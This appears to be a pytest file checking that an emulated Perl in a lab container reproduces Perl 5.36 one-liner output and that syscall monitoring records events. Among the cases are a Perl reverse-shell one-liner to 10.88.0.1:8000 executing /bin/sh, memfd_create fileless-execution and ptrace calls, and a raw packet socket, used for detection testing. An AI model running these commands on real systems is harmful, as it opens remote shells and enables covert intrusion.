"""The part of perl that the lab has: what perl 5.36 printed for the same one-liners; the rest is said to be lacking."""

from __future__ import annotations

import pytest

MEMORY = "/memfd:x (deleted)\n"
TABLE = "root:x:0\nlp:x:7\n"


@pytest.mark.parametrize(
    ("argv", "out", "code"),
    [
        (["-e", 'print "hi\\n"; print 1+2*3, "-", 7/2, "-", 7 % 3, "\\n"'], "hi\n7-3.5-1\n", 0),
        (["-e", 'system("echo x"); system("echo", "y z"); exec "echo", "ex"'], "x\ny z\nex\n", 0),
        (["-e", 'print `echo cap`; $x = `echo hi`; print "<$x>"'], "cap\n<hi\n>", 0),
        (["-e", 'print "args: @ARGV $ARGV[0] $ENV{HOME}\\n"', "A", "B"], "args: A B A /root\n", 0),
        (["-e", 'open(F, "</tmp/t"); while(<F>){ print if /root/ } close F'], "root:x:0\n", 0),
        (["-e", 'open(my $f, "<", "/tmp/t") or die "no"; print <$f>'], TABLE, 0),
        (["-e", 'open(F,">/tmp/o"); print F "w\\n"; close(F); print `cat /tmp/o`'], "w\n", 0),
        (["-e", '$_="foo bar"; s/o/0/g; print; print "\\n"'], "f00 bar\n", 0),
        (["-e", 'if ("abc" =~ /b(.)/) { print "got $1\\n" } else { print "no\\n" }'], "got c\n", 0),
        (["-e", '$i=0; while($i<3){ $i += 1; print $i } print "\\n"; exit 3'], "123\n", 3),
        (["-e", 'use strict; my $y = "q"; print "$y " x 2, join(",", "a", "b"), "\\n"'], "q q a,b\n", 0),
        (["-e", 'die "oops\\n"'], "", 255),
        (["-ne", "print if /lp/", "/tmp/t"], "lp:x:7\n", 0),
        (["-pe", "s/root/R/", "/tmp/t"], "R:x:0\nlp:x:7\n", 0),
        (["-le", "print 1"], "1\n", 0),
        (["-e", 'print syscall(321, 5, 0, 0), " $!\n"'], "-1 Operation not permitted\n", 0),
        (["-e", 'print syscall(323, 1), " ", syscall(101, 0, 0, 0, 0), "\n"'], "3 0\n", 0),
        (["-e", '$n = "x"; $f = syscall($ARGV[0], $n, 0); print `readlink /proc/$$/fd/$f`', "319"], MEMORY, 0),
        (["-e", 'print socket(S, 17, 3, 768), "\n"'], "1\n", 0),
    ],
)
async def test_a_one_liner_prints_what_perl_printed(pod, argv, out, code):
    pod.container.filesystem.write_text("/tmp/t", TABLE)
    result = await pod.run("perl", *argv)
    assert (result.out, result.code) == (out, code)


@pytest.mark.parametrize(
    ("source", "what"),
    [
        ("fork", "fork"),
        ("syscall(39)", "syscall 39"),
        ("syscall(101, 7)", "syscall 101 7"),
        ("for (1..3) { print }", "for"),
        ("%h = (1,2); print keys %h", "%"),
        ("print map { $_ } 1", "map"),
        ('open(P, "ls |"); print <P>', "a pipe by open"),
        ("sub f { 1 } f()", "sub"),
        ("@a = (1,2)", "an assignment to @a"),
        ("(" * 200 + "1" + ")" * 200, "so deep a program"),
    ],
)
async def test_what_the_lab_lacks_of_perl_is_said_to_be_lacking(pod, source, what):
    result = await pod.run("perl", "-e", source)
    assert result.code in (29, 255)
    assert "embedded lab" in result.err or "syntax error" in result.err
    assert what in result.err or "syntax error" in result.err


async def test_a_shell_at_the_end_of_a_socket_has_it_as_its_output(pod):
    await pod.run(
        "perl",
        "-e",
        'use Socket; $i="10.88.0.1"; $p=8000; socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
        "if(connect(S,sockaddr_in($p,inet_aton($i)))){"
        'open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -c id");};',
    )
    assert [event["evt.arg"]["newfd"][:1] for event in pod.seen("dup2", proc_name="perl")] != []
    assert str(pod.seen("dup2", proc_name="perl")[0]["fd.name"]).endswith("->10.88.0.1:8000")
    assert pod.seen("execve", proc_name="id")[0]["proc.pname"] == "sh"
